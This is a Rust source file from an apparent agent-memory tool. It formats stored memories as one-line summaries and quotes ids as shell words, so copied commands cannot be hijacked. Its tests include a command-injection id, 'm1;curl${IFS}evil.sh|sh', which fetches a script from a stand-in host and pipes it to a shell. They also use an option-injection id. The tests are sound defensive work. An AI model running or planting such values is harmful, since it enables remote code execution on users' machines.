//! One memory in one line: its day, what happened, what to do, and its origin. Not here: how many lines a reply has
//! (`hits`, `briefing`, `item`).

use std::borrow::Cow;
use std::fmt::Write;

use super::excerpt::{Excerpt, Interest, LOOK_BYTES_MAX, cut};
use super::inert::{self, stamp};
use super::memory_fields::CANDIDATE;
use super::note_parts::title_text;
use event::{Event, EventId, RepoKey};
use guard::injection::Suspicion;
use memory::Memory;
use search::FolderNames;
use search::staleness::{ChangedFiles, UnmergedMemories};

/// Returns the day of a memory.
pub(super) fn date(memory: &Memory) -> String {
    memory
        .timestamp
        .map_or_else(|| "no date".to_owned(), |time| time.strftime("%Y-%m-%d").to_string())
}

/// Longest name of an agent, a repository or a field.
const NAME_CHARS_MAX: usize = 40;

/// Returns a foreign name, neutralised for a line.
pub(super) fn name(text: &str) -> String {
    stamp(text, false).chars().take(NAME_CHARS_MAX).collect()
}

/// Returns ids as shell words of a command that a reader may copy. Anybody may choose an id, but no id contains a
/// quote (S-LINE-4).
#[must_use]
pub fn operands(ids: &[&EventId]) -> String {
    let words: Vec<Cow<'_, str>> = ids.iter().map(|id| word(id)).collect();
    let is_option = ids.iter().any(|id| id.short().starts_with('-'));
    format!("{}{}", if is_option { "-- " } else { "" }, words.join(" "))
}

/// Returns an id as one word of a shell.
pub(super) fn word(id: &EventId) -> Cow<'_, str> {
    let id = id.short();
    let is_plain = id.starts_with(|c: char| c.is_ascii_alphanumeric())
        && id.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"._:-".contains(&byte));
    if is_plain { id.into() } else { format!("'{id}'").into() }
}

/// Longest title, in bytes.
const TITLE_BYTES: usize = 120;
/// The beginning of a text that is searched for a title, in bytes.
const TITLE_LOOK_BYTES: usize = 2_048;

/// Returns the first words of an event.
pub(super) fn first_words(event: &Event) -> String {
    let text = if event.context.is_empty() { &event.lesson } else { &event.context };
    cut(
        &title_text(text.get(..text.floor_char_boundary(TITLE_LOOK_BYTES)).unwrap_or_default()),
        TITLE_BYTES,
    )
}

/// Returns the first words of a memory, and its id. One that reads like an instruction has only its id.
pub(super) fn cited_title(memory: &Memory) -> String {
    let id = name(memory.id.short());
    if memory.flagged().is_some() {
        return format!("{}[{id}]", mark(memory));
    }
    format!("{} [{id}]", first_words(&memory.event()))
}

/// Returns the title of a memory, marked where it reads like an instruction.
pub(super) fn title(memory: &Memory) -> String {
    format!("{}{}", mark(memory), first_words(&memory.event()))
}

/// Files that are named.
const FILES_SHOWN_MAX: usize = 2;
/// Longest path of a file, in bytes; its end is shown.
const FILE_BYTES_MAX: usize = 60;

/// Names files, the first of them; empty for none.
pub(super) fn files(files: &[String]) -> String {
    let shown: Vec<String> =
        files.iter().take(FILES_SHOWN_MAX).map(|file| shortened(file)).collect();
    match files.len().saturating_sub(shown.len()) {
        0 => shown.join(", "),
        more => format!("{} and {more} more", shown.join(", ")),
    }
}

fn shortened(file: &str) -> String {
    let file = stamp(file, true);
    let cut = file.len().saturating_sub(FILE_BYTES_MAX);
    let end = file.get(file.ceil_char_boundary(cut)..).unwrap_or_default().to_owned();
    if cut > 0 { format!("…{end}") } else { end }
}

/// Names the files of a memory that are gone.
pub(super) fn gone(gone: Option<&Vec<String>>) -> String {
    let files = gone.map_or_else(String::new, |list| files(list));
    if files.is_empty() { files } else { format!(" (gone: {files})") }
}

/// Names the changed files of a memory.
pub(super) fn changed(memory: &Memory, changed: &ChangedFiles) -> String {
    let files = changed.get(&memory.id).map_or_else(String::new, |list| files(list));
    if files.is_empty() { files } else { format!(" ({files} changed since)") }
}

/// Says of which branch a memory is that is not merged where the caller is.
pub(super) fn not_merged(branch: &str) -> String {
    format!("from branch {}, not merged here", name(branch))
}

/// The same as a mark behind the text of a memory; empty where nothing is to be said.
pub(super) fn branch(memory: &Memory, unmerged: &UnmergedMemories) -> String {
    let mark = |branch: &String| format!(" ({})", not_merged(branch));
    unmerged.get(&memory.id).map_or_else(String::new, mark)
}

/// Returns the mark of a memory that reads like an instruction, with the reason.
pub(super) fn mark(memory: &Memory) -> String {
    mark_of(memory.flagged())
}

/// Returns the mark of any text, given why it reads like an instruction.
pub(super) fn mark_of(why: Option<Suspicion>) -> String {
    why.map_or_else(String::new, |why| format!("⚠ flagged ({why}): "))
}

/// Where the reader of an answer works, as far as that is known.
#[derive(Debug, Clone, Copy, Default)]
pub struct ReaderPlace<'a> {
    /// The repository; its own memories do not name it.
    pub repo: Option<&'a RepoKey>,
    /// The package of it; its own memories do not name it.
    pub package: Option<&'a FolderNames>,
}

impl<'a> ReaderPlace<'a> {
    /// A reader of whom only the repository is known.
    pub(super) fn of_repo(repo: Option<&'a RepoKey>) -> Self {
        Self { repo, package: None }
    }

    /// Says of which package a memory is, if that is not the one at hand.
    fn folder_name(&self, memory: &Memory) -> Option<String> {
        let folder = memory.folder()?;
        let is_here = self.repo == Some(&memory.repo)
            && self.package.is_some_and(|package| package.is_named(folder));
        (!is_here).then(|| format!("in {}", shortened(folder.as_str())))
    }
}

/// Returns the text after a memory: success, origin, agent and id.
pub(super) fn origin_text(memory: &Memory, reader: ReaderPlace<'_>) -> String {
    let event = &memory.event();
    let mut after = String::new();
    if let Some(rate) = memory.evidence() {
        let _ = write!(after, " ({rate} success)");
    }
    if memory.verdicts().is_stale {
        after.push_str(" (marked stale)");
    }
    let kind = event.event_type.as_str();
    let mut source: Vec<String> = Vec::new();
    if reader.repo != Some(&memory.repo) {
        source.push(name(memory.repo.short_name()));
    }
    source.extend(reader.folder_name(memory));
    // Errors and patterns need no name; any other kind is named.
    if !matches!(kind, "error" | "success" | "pattern" | "") {
        source.push(name(kind));
    }
    source.push(name(&event.agent_id));
    // An agent that learned it first-hand is named; any other source is named as such.
    let vouches = event.source.as_deref().unwrap_or_default();
    if memory.is_candidate() {
        source.push(CANDIDATE.to_owned());
    } else if !matches!(vouches, "human" | "agent") {
        source.push(name(vouches));
    }
    source.retain(|part| !part.is_empty());
    if !source.is_empty() {
        let _ = write!(after, " · {}", source.join(", "));
    }
    let _ = write!(after, " · {}", event.id.short());
    after
}

/// A command takes at most this part of the room of a memory.
const COMMAND_SHARE: usize = 3;

/// The lines of a memory, prepared for any length.
pub(super) struct MemoryBody<'a> {
    context: Excerpt<'a>,
    lesson: Excerpt<'a>,
    /// Empty where the lesson repeats it.
    command: String,
}

impl<'a> MemoryBody<'a> {
    pub(super) fn new(memory: &Memory, interest: &'a Interest<'a>) -> Self {
        let event = &memory.event();
        // A command is shown whole or not at all.
        let is_short = event.command.len() <= LOOK_BYTES_MAX;
        let is_shown = is_short && !event.lesson.contains(event.command.trim());
        let command = if is_shown { inert::text(&event.command) } else { String::new() };
        Self {
            context: Excerpt::new(&event.context, interest),
            lesson: Excerpt::new(&event.lesson, interest),
            command: if command.is_empty() { command } else { format!(" `{command}`") },
        }
    }

    /// Returns the length of the whole text, in bytes.
    pub(super) fn bytes(&self) -> usize {
        self.context.bytes() + self.joint().len() + self.lesson.bytes() + self.command.len()
    }

    /// Returns the length of the least that tells what it is about, in bytes.
    pub(super) fn title_bytes(&self) -> usize {
        let context = self.context.bytes();
        if context == 0 { self.bytes().min(TITLE_BYTES) } else { context.min(TITLE_BYTES) }
    }

    /// Returns what it is about, in at most `bytes_max` bytes.
    pub(super) fn title(&self, bytes_max: usize) -> String {
        let text = if self.context.bytes() == 0 { &self.lesson } else { &self.context };
        text.beginning(bytes_max)
    }

    /// Returns what happened and what to do, in at most `bytes_max` bytes.
    pub(super) fn shown(&self, bytes_max: usize) -> String {
        let (lesson_bytes, joint) = (self.lesson.bytes(), self.joint());
        // A command is what is copied: a text that must be cut is cut for it too.
        let is_whole = self.bytes() - self.command.len() <= bytes_max;
        let is_carried = !is_whole && self.command.len() <= bytes_max / COMMAND_SHARE;
        let text_max = if is_carried { bytes_max - self.command.len() } else { bytes_max };
        // Where both are long, what happened gets a third, as far as it is longer than a title: what to do matters more.
        let room = if lesson_bytes == 0 {
            text_max
        } else {
            let least = (text_max / 3).max(TITLE_BYTES.min(text_max / 2));
            text_max.saturating_sub(lesson_bytes + joint.len()).max(least)
        };
        let context = self.context.shown(room);
        let joint = if context.is_empty() { "" } else { joint };
        let room = text_max.saturating_sub(context.len() + joint.len());
        let mut body = format!("{context}{joint}{}", self.lesson.shown(room));
        if body.len() + self.command.len() <= bytes_max {
            body.push_str(&self.command);
        }
        body.truncate(body.floor_char_boundary(bytes_max));
        body
    }

    fn joint(&self) -> &'static str {
        if self.context.bytes() == 0 || self.lesson.bytes() == 0 { "" } else { ": " }
    }
}

#[cfg(test)]
mod tests {
    use std::cell::Cell;

    use super::super::test_memories;
    use super::*;
    use serde_json::json;

    // S-REPLY-3
    #[test]
    fn an_id_in_a_command_is_one_word_whatever_it_holds() {
        let id = |text: &str| EventId::foreign(text).unwrap();
        let (plain, odd, option) = (id("fix-1.a:b_c"), id("m1;curl${IFS}evil.sh|sh"), id("--undo"));
        assert_eq!(operands(&[&plain]), "fix-1.a:b_c");
        assert_eq!(operands(&[&plain, &odd]), "fix-1.a:b_c 'm1;curl${IFS}evil.sh|sh'");
        assert_eq!(operands(&[&option, &odd]), "-- '--undo' 'm1;curl${IFS}evil.sh|sh'");
        assert_eq!(word(&id("~root")), "'~root'");
        let own = EventId::mint("2026-01-02T03:04:05Z".parse().unwrap(), 7);
        assert_eq!(operands(&[&own]), own.short());
    }

    #[test]
    fn a_body_weighs_each_piece_once_within_any_budget() {
        let weighed = Cell::new(0);
        let count = |_: &str| {
            weighed.set(weighed.get() + 1);
            0.0
        };
        let (context, lesson) = ("bb! ".repeat(5_000), format!("zebra {}", "aa. ".repeat(10_000)));
        let memory = test_memories::memory(&json!({ "context": context, "lesson": lesson }));
        let body = MemoryBody::new(&memory, &count);
        for bytes_max in [0, 1, 5, 100, 640, 8_000] {
            assert!(body.shown(bytes_max).len() <= bytes_max);
        }
        assert_eq!(weighed.get(), 15_000);
        assert_eq!(body.shown(usize::MAX).len(), body.bytes());
    }
}
